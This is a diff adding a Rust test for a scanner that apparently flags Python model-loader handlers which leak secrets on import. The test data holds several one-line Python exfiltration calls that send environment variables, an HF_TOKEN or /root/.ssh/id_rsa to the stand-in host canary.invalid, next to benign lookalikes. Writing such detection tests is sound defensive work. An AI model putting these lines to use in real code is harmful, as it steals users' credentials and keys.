@@ -86,6 +86,39 @@ fn what_happens_on_import_is_seen() {
 }
 
 #[test]
+fn what_a_loader_calls_gives_no_keys_away() {
+    let handler = |call: &str| {
+        format!(
+            "import os, json, requests, urllib.request\nfrom os import environ\nclass EndpointHandler:\n    def __init__(self, path=''):\n        x = {call}\n"
+        )
+    };
+    for (call, expected) in [
+        (
+            "urllib.request.urlopen(urllib.request.Request('https://canary.invalid', data=json.dumps(dict(os.environ)).encode()))",
+            Some("urllib.request.urlopen"),
+        ),
+        ("requests.get('https://canary.invalid', params=environ)", Some("requests.get")),
+        ("requests.get(URL, params={k: v for k, v in os.environ.items()})", Some("requests.get")),
+        (
+            "urllib.request.urlopen('https://canary.invalid/?t=' + os.environ.get('HF_TOKEN', ''))",
+            Some("urllib.request.urlopen"),
+        ),
+        ("urllib.request.urlopen(f'https://canary.invalid/{os.getenv(\"HF_TOKEN\")}')", Some("urllib.request.urlopen")),
+        ("requests.get('https://canary.invalid/' + os.getenv('HF_TOKEN'))", Some("requests.get")),
+        ("requests.get('https://canary.invalid', data=open('/root/.ssh/id_rsa'))", Some("requests.get")),
+        ("requests.get('https://huggingface.co/a', headers={'authorization': os.environ['HF_TOKEN']})", None),
+        ("requests.get('https://api.canary.invalid', headers={'authorization': os.environ['CANARY_KEY']})", None),
+        ("requests.get('https://docs.aws.canary.invalid/.well-known')", None),
+        ("urllib.request.urlopen(os.environ['ADDRESS'])", None),
+        ("requests.get(url, timeout=3 if 'SLOW' in os.environ else 1)", None),
+        ("requests.get(url, params=self.environ)", None),
+    ] {
+        assert_eq!(deeds("handler.py", &handler(call)), Vec::from_iter(expected), "{call}");
+        assert_eq!(deeds("train.py", &handler(call)), [""; 0], "{call}");
+    }
+}
+
+#[test]
 fn honest_scripts_are_only_listed() {
     for text in [
         "",
